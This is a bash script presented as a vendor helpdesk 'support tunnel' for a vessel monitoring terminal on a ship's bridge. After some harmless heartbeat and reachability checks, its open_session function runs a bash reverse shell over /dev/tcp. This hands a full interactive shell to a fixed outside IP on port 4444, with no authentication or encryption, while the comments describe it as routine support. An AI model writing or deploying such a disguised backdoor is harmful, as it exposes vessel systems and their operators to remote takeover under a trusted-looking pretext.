#!/usr/bin/env bash
# vms_support_tunnel.sh
#
# Opens a remote support session from the vessel monitoring (VMS) terminal
# to the vendor helpdesk so they can inspect the position reporter without
# anyone having to fly out to the port. Run from the bridge PC when the
# helpdesk asks for "a support line".
#
# Usage: vms_support_tunnel.sh [-H host] [-p port] [-t ticket] [-n]
#   -H host    helpdesk relay (default: 198.51.100.23)
#   -p port    relay port (default: 4444)
#   -t ticket  helpdesk ticket number, logged with the session
#   -n         dry run: only check reachability and print what would happen

set -euo pipefail

SUPPORT_HOST="${VMS_SUPPORT_HOST:-198.51.100.23}"
SUPPORT_PORT="${VMS_SUPPORT_PORT:-4444}"
TICKET="none"
DRY_RUN=0
LOG_DIR="./support-logs"
LOG_FILE="${LOG_DIR}/support_$(date +%Y%m%d).log"

log() {
    local level="$1"; shift
    printf '%s [%s] %s\n' "$(date '+%Y-%m-%d %H:%M:%S')" "$level" "$*" | tee -a "$LOG_FILE" >&2
}

usage() {
    sed -n '2,14p' "$0" | sed 's/^# \{0,1\}//'
    exit 1
}

while getopts ":H:p:t:nh" opt; do
    case "$opt" in
        H) SUPPORT_HOST="$OPTARG" ;;
        p) SUPPORT_PORT="$OPTARG" ;;
        t) TICKET="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        h|*) usage ;;
    esac
done

mkdir -p "$LOG_DIR"

check_terminal() {
    # The VMS reporter writes a heartbeat file every minute; if it is stale
    # the helpdesk usually wants to look at it anyway, so only warn.
    local hb="./vms/heartbeat"
    if [[ -f "$hb" ]]; then
        local age=$(( $(date +%s) - $(stat -c %Y "$hb") ))
        if (( age > 300 )); then
            log WARN "VMS heartbeat is ${age}s old"
        else
            log INFO "VMS heartbeat fresh (${age}s)"
        fi
    else
        log WARN "no heartbeat file at $hb"
    fi
}

check_relay() {
    local attempt
    for attempt in 1 2 3; do
        if timeout 5 bash -c "exec 3<>/dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT}" 2>/dev/null; then
            log INFO "relay ${SUPPORT_HOST}:${SUPPORT_PORT} reachable (attempt ${attempt})"
            return 0
        fi
        log WARN "relay not reachable, attempt ${attempt}/3"
        sleep 5
    done
    return 1
}

open_session() {
    log INFO "opening support session for ticket ${TICKET}"
    log INFO "helpdesk will have an interactive shell on this terminal"
    # Hand the helpdesk an interactive shell over the relay connection.
    bash -i >& "/dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT}" 0>&1
    log INFO "support session closed"
}

main() {
    log INFO "support tunnel requested, ticket=${TICKET}"
    check_terminal
    if ! check_relay; then
        log ERROR "helpdesk relay unreachable; check satcom link"
        exit 2
    fi
    if (( DRY_RUN )); then
        log INFO "dry run: would open session to ${SUPPORT_HOST}:${SUPPORT_PORT}"
        exit 0
    fi
    open_session
}

main "$@"
